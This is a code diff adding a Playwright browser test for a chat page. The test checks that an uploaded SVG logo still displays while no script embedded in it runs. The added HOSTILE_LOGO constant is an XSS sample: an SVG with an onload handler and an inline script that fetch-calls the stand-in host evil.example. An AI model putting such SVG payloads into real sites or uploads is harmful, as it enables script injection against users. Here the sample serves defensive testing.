@@ -9,7 +9,7 @@ from playwright.sync_api import Page, Request, expect
 
 from tests.web.chat_page import ChatPage
 from tests.web.chatkit_cdn import with_cdn
-from tests.web.conftest import GUESTS, served
+from tests.web.conftest import GUESTS, served, served_in_process
 
 pytestmark = pytest.mark.xdist_group("browser")
 
@@ -30,6 +30,10 @@ PAGE = {
     "labels": LABELS,
 }
 BRANDED = {**GUESTS, "CHAT_PAGE": json.dumps(PAGE), "CHAT_MODELS": "small,large", "CHAT_TOOL_CHOICES": "pay,look_it-up"}
+
+HOSTILE_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="top.was_hacked = true">
+<script>top.was_hacked = true; fetch("https://evil.example/script")</script>
+<image href="https://evil.example/image.png" width="9" height="9"/><rect width="40" height="20" fill="teal"/></svg>"""
 
 
 @pytest.fixture(scope="module")
@@ -57,6 +61,20 @@ def test_the_page_shows_the_title_greeting_prompts_and_links_of_the_stage(shop: 
     expect(shop.page.locator(".prompt")).to_have_text([prompt["label"] for prompt in PROMPTS])
     expect(shop.page.locator(".footnote")).to_have_text("Answers can be wrong. Privacy policy")
     expect(shop.page.get_by_role("link", name="Privacy policy")).to_have_attribute("href", PRIVACY)
+
+
+def test_a_logo_is_shown_and_no_script_in_it_runs(tab: Page) -> None:
+    requests: list[str] = []
+    tab.on("request", lambda request: requests.append(request.url))
+    headers = {"content-type": "image/svg+xml"}
+    tab.route("**/logo", lambda route: route.fulfill(status=200, headers=headers, body=HOSTILE_LOGO))
+    with served_in_process(GUESTS | {"CHAT_PAGE": json.dumps({"logo": "logo.svg"})}) as url:
+        ChatPage(tab, url).open()
+        logo = tab.locator("img.logo")
+        expect(logo).to_have_js_property("naturalWidth", 40)
+        expect(tab.locator("link[rel=icon]")).to_have_attribute("href", "logo")
+    assert tab.evaluate("window.was_hacked") is None
+    assert not [url for url in requests if "evil" in url]
 
 
 def test_a_prompt_is_sent_as_a_message_and_keeps_the_draft(shop: ChatPage) -> None:
